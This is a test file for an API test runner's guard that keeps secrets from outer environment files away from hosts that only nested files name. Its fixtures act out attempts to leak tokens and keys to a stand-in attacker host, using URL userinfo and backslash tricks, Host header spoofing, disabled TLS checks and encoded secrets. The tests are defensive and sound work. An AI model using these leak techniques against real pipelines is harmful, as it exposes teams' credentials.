import { describe, expect, test } from 'vitest';
import { destinationsOf } from './destinations.ts';
import { createRedactor } from '../secrets/redact.ts';
import { fakeHost, runSpec, specOf } from '../../test/run-fixture.ts';
import type { Environment } from '../../environment/environment.ts';
import { resolveEnvironment } from '../../environment/resolve-environment.ts';
import { readEnvironmentsFile } from '../../environment/environments-file.ts';

const secrets: Readonly<Record<string, string>> = {
  TOKEN: 'token-of-the-team',
  PORT: '8443',
  KEY: 'key-of-the-team',
};

/** Files, the outermost first: `path: what the environment says` or, with a first line `trustNested`, a file that trusts. */
function environmentOf(
  ...files: readonly string[]
): Environment | { readonly problem: string; readonly hint: string } {
  const read = files.map((yaml, at) => {
    const trust = yaml.startsWith('trustNested') ? 'trustNested: true\n' : '';
    const lines = yaml.replace(/^trustNested\n/, '').replaceAll(/^/gm, '    ');
    const path = `${['specs', 'pr', 'more'].slice(0, at + 1).join('/')}/environments.yaml`;
    return readEnvironmentsFile({ path, text: `default: e\n${trust}environments:\n  e:\n${lines}\n` });
  });
  expect(read.flatMap(({ diagnostics }) => diagnostics)).toEqual([]);
  const result = resolveEnvironment(read.toReversed(), undefined, {});
  return 'environment' in result ? result.environment : result;
}

async function run(
  files: readonly string[],
  step = '',
  more: Parameters<typeof runSpec>[2] & { readonly row?: object } = {},
) {
  const host = fakeHost(({ path }) => ({ json: { access_token: 'given-token-of-the-host', path } }));
  const environment = environmentOf(...files);
  if ('problem' in environment) throw new Error(environment.problem);
  const ran = await runSpec(
    specOf({ test: `- id: main\n  method: POST\n  path: /x\n${step.replaceAll(/^/gm, '  ')}` }),
    host.send,
    { environment, readSecret: () => (name) => secrets[name], ...more },
  );
  return { ran, sent: host.requests.map(({ url }) => url), check: ran.steps[0]?.checks[0], host };
}

const OUTER = 'baseUrl: https://good.test\ntokens: { staff: "{{env.TOKEN}}" }';

describe('a token of an outer file does not go to a host that only a nested file names', () => {
  test.each([
    ['a route', 'routes: [{ path: "/**", baseUrl: "https://evil.test" }]'],
    ['the base', 'baseUrl: https://evil.test'],
    ['another port', 'baseUrl: https://good.test:8443'],
    ['another scheme', 'baseUrl: http://good.test'],
    ['a subdomain', 'baseUrl: https://good.test.evil.test'],
    ['a user in front', 'baseUrl: https://good.test@evil.test'],
    ['a backslash', 'baseUrl: "https://evil.test\\\\@good.test"'],
    ['a dot behind', 'baseUrl: https://good.test.'],
    ['a list of its own', 'baseUrl: https://evil.test\nhosts: [evil.test]'],
    ['its own trust', 'baseUrl: https://evil.test\nvariables: { trustNested: true }'],
    ['a socket', 'socketPath: ./own.sock'],
    ['certificates that it believes', 'tls: { ca: own.pem }'],
    ['certificates that nobody looks at', 'tls: { insecure: true }'],
    ['a Host header', 'headers: { Host: evil.test }'],
    [
      'a Host header of the token',
      'tokens: { staff: { value: "{{env.TOKEN}}", headers: { host: evil.test } } }',
    ],
  ])('%s', async (_, nested) => {
    const { sent, check } = await run([OUTER, nested]);
    expect(sent).toEqual([]);
    expect(check).toMatchObject({ name: 'destination', outcome: 'not-made' });
    expect(check?.message).toContain('may not go to');
    expect(check?.message).toContain('specs/environments.yaml');
    expect(check?.hint).toMatch(
      /(add "hosts: \[.*\]" to|say "socketPath:" or "tls:" in) the environment "e" in specs\/environments.yaml/,
    );
  });

  test('the message names both files', async () => {
    const { check } = await run([OUTER, 'baseUrl: https://evil.test']);
    expect(check?.message).toBe(
      'the token "staff" of specs/environments.yaml may not go to https://evil.test, which specs/pr/environments.yaml names and specs/environments.yaml does not',
    );
  });
});

test('a Host header is a host', async () => {
  const { sent, check } = await run([OUTER], 'headers: { hOST: evil.test }');
  expect(sent).toEqual([]);
  expect(check?.message).toContain('may not go to https://evil.test, which no environments.yaml names');
});

describe('it goes', () => {
  test.each([
    ['to a host that both name, in another spelling', [OUTER, 'baseUrl: "HTTPS://GOOD.test:443/v2"']],
    [
      'to one that the outer file lists',
      [`${OUTER}\nhosts: [https://more.test]`, 'baseUrl: https://more.test'],
    ],
    ['to every port of a listed name', [`${OUTER}\nhosts: [more.test]`, 'baseUrl: http://more.test:81']],
    ['to the port that is listed', [`${OUTER}\nhosts: ["more.test:443"]`, 'baseUrl: https://more.test']],
    ['to an address', [`${OUTER}\nhosts: ["[::1]:81"]`, 'baseUrl: "http://[0:0:0:0:0:0:0:1]:81"']],
    ['where the outer file trusts', [`trustNested\n${OUTER}`, 'baseUrl: https://evil.test']],
    [
      'where the outermost trusts, two folders down',
      [`trustNested\n${OUTER}`, 'timeoutMs: 5', 'baseUrl: https://evil.test'],
    ],
    ['where one file says all', [OUTER]],
    ['with a Host header that the outer file writes', [`${OUTER}\nheaders: { Host: inside.test }`]],
  ])('%s', async (_, files) => {
    const { sent, host } = await run(files);
    expect(sent).toHaveLength(1);
    expect(host.requests[0]!.headers['Authorization']).toBe('Bearer token-of-the-team');
  });

  test('a file in the middle trusts on behalf of itself only', async () => {
    const { sent } = await run([OUTER, 'trustNested\ntimeoutMs: 5', 'baseUrl: https://evil.test']);
    expect(sent).toEqual([]);
  });

  test("a nested file's own token goes to its own host and to outer ones", async () => {
    const nested = 'tokens: { own: mine }\ndefaultToken: own\n';
    expect((await run([OUTER, `${nested}baseUrl: https://evil.test`])).sent).toEqual(['https://evil.test/x']);
    expect((await run([OUTER, nested])).sent).toEqual(['https://good.test/x']);
  });
});

describe('without a token, nothing that is made of a secret goes there', () => {
  const evil = (more = '') => `baseUrl: "https://evil.test"\ndefaultToken: none\n${more}`;
  const outer = `${OUTER}\nvariables: { made: "x-{{uppercase env.KEY}}", plain: 1 }`;

  test.each([
    ['in the query', 'params: { q: "{{env.KEY}}" }'],
    ['in a header', 'headers: { x-q: "{{env.KEY}}" }'],
    ['in the body, by a helper', "body: { q: \"{{replace env.KEY 'key' 'k'}}\" }"],
    ['in a variable', 'body: { q: "{{made}}" }'],
    ['in base64', 'body: { q: "{{base64 env.KEY}}" }'],
    ['written out', 'body: { q: token-of-the-team }'],
    ['written in hex', `body: { q: "${Buffer.from('token-of-the-team').toString('base64')}" }`],
    ['item by item', 'forEach: { in: ["{{uppercase env.KEY}}"], as: each }\nbody: { q: "{{each}}" }'],
  ])('%s', async (_, step) => {
    const { sent } = await run([outer, evil()], step);
    expect(sent).toEqual([]);
  });

  test('nor by a nested variable, header or path', async () => {
    expect((await run([outer, evil('headers: { x: "{{env.KEY}}" }')])).sent).toEqual([]);
    expect(
      (await run([outer, evil('variables: { mine: "{{env.KEY}}" }')], 'body: ["{{mine}}"]')).sent,
    ).toEqual([]);
    expect((await run([outer, evil().replace('test', 'test/{{env.KEY}}')])).sent).toEqual([]);
    expect((await run([outer, evil().replace('evil', '{{env.KEY}}.evil')])).sent).toEqual([]);
    expect((await run([outer, evil().replace('test', 'test/{{uppercase env.KEY}}')])).sent).toEqual([]);
  });

  test('but everything else does, and so does what only names a host', async () => {
    expect((await run([outer, evil()], 'body: ["{{plain}}"]')).sent).toEqual(['https://evil.test/x']);
    const ported = [
      'baseUrl: "https://good.test:{{env.PORT}}"',
      evil().replace('.test', '.test:{{env.PORT}}'),
    ];
    expect((await run(ported)).sent).toEqual(['https://evil.test:8443/x']);
  });
});

describe('what an outer host gave as a secret', () => {
  const outer = OUTER.replace('{{env.TOKEN}}', 'literal');
  const nested = 'defaultToken: none\nroutes: [{ path: /to/evil, baseUrl: "https://evil.test" }]';
  const login = (path: string) =>
    `- id: login\n  method: GET\n  path: ${path}\n  extract: { session: { path: $.access_token, redact: true } }`;
  const use = (path: string) =>
    `- id: use\n  method: GET\n  path: ${path}\n  headers: { x: "a {{session}}" }`;

  test.each([
    ['an outer host to a nested one', '/login', '/to/evil', ['https://good.test/login']],
    [
      'a nested host to itself',
      '/to/evil',
      '/to/evil',
      ['https://evil.test/to/evil', 'https://evil.test/to/evil'],
    ],
    ['a nested host to an outer one', '/to/evil', '/x', ['https://evil.test/to/evil', 'https://good.test/x']],
  ])('from %s', async (_, from, to, expected) => {
    const environment = environmentOf(outer, nested);
    if ('problem' in environment) throw new Error(environment.problem);
    const host = fakeHost(() => ({ json: { access_token: 'given-token-of-the-host' } }));
    const spec = specOf({ prerequisites: login(from), test: use(to) });
    await runSpec(spec, host.send, { environment });
    expect(host.requests.map(({ url }) => url)).toEqual(expected);
  });
});

describe('what a variable holds that came from an outer host does not go to a nested one', () => {
  const files = [OUTER, 'routes: [{ path: /evil, baseUrl: "https://evil.test" }]'];
  const answer = {
    plain: 'words',
    access_token: 'given-token-of-the-host',
    letter: 'g',
    list: [{ part: 'p' }, { part: 'q' }],
  };
  const first = (extract: string) =>
    `- id: first\n  method: GET\n  path: /x\n  token: staff\n  extract: ${extract}`;
  const second = (more: string) =>
    `- id: second\n  method: GET\n  path: /evil\n  token: none\n${more.replaceAll(/^/gm, '  ')}`;

  const sentBy = async (sections: Parameters<typeof specOf>[0]) => {
    const environment = environmentOf(...files);
    if ('problem' in environment) throw new Error(environment.problem);
    const host = fakeHost(({ path }) => ({ status: path === '/gone' ? 201 : 200, json: answer }));
    const ran = await runSpec(specOf(sections), host.send, {
      environment,
      readSecret: () => (name) => secrets[name],
    });
    return { ran, sent: host.requests.map(({ url }) => url) };
  };

  test.each([
    ['as it is', '{ a: $.access_token }', 'params: { q: "{{a}}" }'],
    ['by a helper', '{ a: $.access_token }', "params: { q: \"{{replace a 'g' 'g.'}}\" }"],
    ['by helpers in helpers', '{ a: $.plain }', 'params: { q: "{{base64 (base64 (base64 a))}}" }'],
    ['though it is shown', '{ a: { path: $.access_token, redact: false } }', 'headers: { x: "{{a}}" }'],
    ['though it is short', '{ a: $.letter }', 'body: ["{{a}}"]'],
    ['in parts', '{ a: $.list }', 'params: { q: "{{a.0.part}}" }'],
    ['item by item', '{ a: $.list }', 'forEach: { in: "{{a}}", as: each }\nparams: { q: "{{each.part}}" }'],
    ['by a condition', '{ a: $.letter }', "when: \"'{{a}}' == 'g'\""],
  ])('%s', async (_, extract, step) => {
    const { ran, sent } = await sentBy({ prerequisites: first(extract), test: second(step) });
    expect(sent).toEqual(['https://good.test/x']);
    const message = ran.step('second')?.checks[0]?.message ?? ran.steps.at(-1)?.checks[0]?.message;
    expect(message).toBe(
      '"a", which came from https://good.test, may not go to https://evil.test, which specs/pr/environments.yaml names and specs/environments.yaml does not',
    );
  });

  test('collected over several turns', async () => {
    const turns = first('{ a: $.letter }\n  forEach: { in: [1, 2], as: each }');
    const { sent } = await sentBy({ prerequisites: turns, test: second('body: ["{{a}}"]') });
    expect(sent).toEqual(['https://good.test/x', 'https://good.test/x']);
  });

  test('kept for the cleanup from an answer that was not as promised', async () => {
    const broken = first('{ a: $.letter }\n  expect: { status: 201 }');
    const { sent } = await sentBy({ test: broken, cleanup: second('params: { q: "{{a}}" }') });
    expect(sent).toEqual(['https://good.test/x']);
  });
});

describe('a secret of the command line', () => {
  const given = { vars: { mine: 'mine-of-the-caller' }, secretVars: new Set(['mine']) };
  const nested = 'defaultToken: none\nbaseUrl: https://evil.test';

  test.each([
    ['to a host that only a nested file names', [OUTER, nested], 'params: { q: "{{mine}}" }'],
    ['by a helper', [OUTER, nested], 'params: { q: "{{uppercase mine}}" }'],
    ['by a variable', [OUTER, `${nested}\nvariables: { made: "a{{mine}}" }`], 'body: ["{{made}}"]'],
    ['written out', [OUTER, nested], 'body: ["mine-of-the-caller"]'],
    ['in the host itself', [OUTER, `${nested}/{{mine}}`], ''],
    ['by a Host header', [OUTER], 'token: none\nheaders: { host: evil.test, a: "{{mine}}" }'],
  ])('does not go %s', async (_, files, step) => {
    const { sent, check } = await run(files, step, given);
    expect(sent).toEqual([]);
    expect(check?.message).toContain('{{mine}} of --secret may not go to https://evil.test, which');
  });

  test('goes to the hosts of the outermost file', async () => {
    const { sent } = await run([OUTER, 'headers: { x: "{{mine}}" }'], 'body: ["{{mine}}"]', given);
    expect(sent).toEqual(['https://good.test/x']);
  });
});

describe('an exchange', () => {
  const exchange = (url: string) =>
    `baseUrl: https://good.test\ntokens:\n  staff: { exchange: { url: "${url}", headers: { x-key: "{{env.KEY}}" } } }`;

  test('does not go to a host that only a nested file names', async () => {
    const { sent, check } = await run([`${OUTER}\nsecrets: [KEY]`, exchange('https://evil.test/token')]);
    expect(sent).toEqual([]);
    expect(check?.message).toContain('may not go to https://evil.test');
  });

  test('nor does one with a path follow the base of a nested file', async () => {
    expect((await run([exchange('/token'), 'baseUrl: https://evil.test'])).sent).toEqual([]);
  });

  test('and its token stays with the file that says it', async () => {
    const files = [
      exchange('https://good.test/token'),
      'routes: [{ path: /x, baseUrl: "https://evil.test" }]',
    ];
    expect((await run(files)).sent).toEqual(['https://good.test/token']);
    expect((await run(files.slice(0, 1))).sent).toEqual(['https://good.test/token', 'https://good.test/x']);
  });

  test('its url does not see the variables of nested files', async () => {
    const outer = `${exchange('https://{{where}}/token')}\nvariables: { where: good.test }`;
    expect((await run([outer, 'variables: { where: evil.test }'])).sent[0]).toBe('https://good.test/token');
  });
});

describe('a host', () => {
  const outer =
    'baseUrl: "https://{{where}}"\nvariables: { where: good.test }\ntokens: { staff: "{{env.TOKEN}}" }';

  test.each([
    ['a nested variable', [outer, 'variables: { where: evil.test }'], {}],
    ['an extracted value', [outer], { extract: true }],
  ])('does not see %s', async (_, files, { extract = false }: { readonly extract?: boolean }) => {
    const more = extract ? 'extract: { where: $.path }' : '';
    expect((await run(files, more)).sent).toEqual(['https://good.test/x']);
  });

  test('sees --var', async () => {
    expect((await run([outer], '', { vars: { where: 'var.test' } })).sent).toEqual(['https://var.test/x']);
  });

  test('that cannot be filled in says which variable is missing', async () => {
    const { check } = await run([OUTER.replace('good.test', '{{nowhere}}')]);
    expect(check?.message).toBe('the host "https://{{nowhere}}" needs {{nowhere}}, which nobody provides');
    expect(check?.hint).toContain(
      'a host sees {{env.NAME}}, --var, and the "variables:" of specs/environments.yaml',
    );
  });
});

describe('what may be read', () => {
  test('a nested file reads only what an outer file mentions', () => {
    expect(environmentOf('baseUrl: https://good.test', 'tokens: { staff: "{{env.TOKEN}}" }')).toMatchObject({
      problem:
        'specs/pr/environments.yaml reads {{env.TOKEN}}, which specs/environments.yaml does not mention',
      hint: 'add "secrets: [TOKEN]" to the environment "e" in specs/environments.yaml, or "trustNested: true" beside its "environments:"',
    });
    for (const outer of [
      'secrets: [TOKEN]',
      'variables: { a: "{{base64 env.TOKEN}}" }',
      'trustNested\ntimeoutMs: 5',
    ])
      expect(environmentOf(outer, 'tokens: { staff: "{{env.TOKEN}}" }')).not.toHaveProperty('problem');
  });

  test('a spec reads only what its environment mentions; that is said before anything is sent', async () => {
    const environment = environmentOf(OUTER);
    if ('problem' in environment) throw new Error(environment.problem);
    for (const section of ['test', 'cleanup'] as const) {
      const host = fakeHost(() => 200);
      const reading = '- id: reads\n  method: GET\n  path: /x\n  params: { q: "{{uppercase env.KEY}}" }';
      const plain = '- id: plain\n  method: GET\n  path: /x';
      const spec = specOf(
        section === 'test' ? { prerequisites: plain, test: reading } : { test: plain, cleanup: reading },
      );
      const ran = await runSpec(spec, host.send, { environment, readSecret: () => (name) => secrets[name] });
      expect(ran.verdict).toBe('errored');
      expect(host.requests).toEqual([]);
      expect(ran.step('reads').checks[0]).toMatchObject({
        message: '{{env.KEY}} may not be read: the environment "e" does not mention it',
        hint: 'add "secrets: [KEY]" to the environment "e" in specs/environments.yaml',
      });
    }
  });
});

test.each([
  ['hosts: [https://a.test/path]', 'expected a host'],
  ['hosts: ["*.a.test"]', 'expected a host'],
  ['hosts: [user@a.test]', 'expected a host'],
  ['hosts: a.test', 'expected a list'],
  ['secrets: ["{{env.A}}"]', 'expected the name of a variable'],
  ['secrets: [A-B]', 'expected the name of a variable'],
  ['files: [a]', 'expected text'],
  ['trustNestd: true', 'unknown key "trustNestd"'],
  ['host: [a.test]', 'unknown key "host"'],
])('%s is refused', (line, message) => {
  const text = `${line}\nenvironments: { e: {} }`;
  const { diagnostics } = readEnvironmentsFile({ path: 'environments.yaml', text });
  expect(diagnostics.map((each) => each.message).join()).toContain(message);
});

test('are found once for all specs of a run, each of which has a view of the secrets of its own', () => {
  const environment = environmentOf('baseUrl: https://api.test');
  if ('problem' in environment) throw new Error(environment.problem);
  const redactor = createRedactor();
  const common = { vars: {}, secretVars: new Set<string>(), readSecret: () => () => undefined };
  const of = (place: string) => destinationsOf(environment, { ...common, redactor: redactor.within(place) });
  expect(of('a')).toBe(of('b'));
  expect(destinationsOf(environment, { ...common, vars: {}, redactor })).not.toBe(of('a'));
});
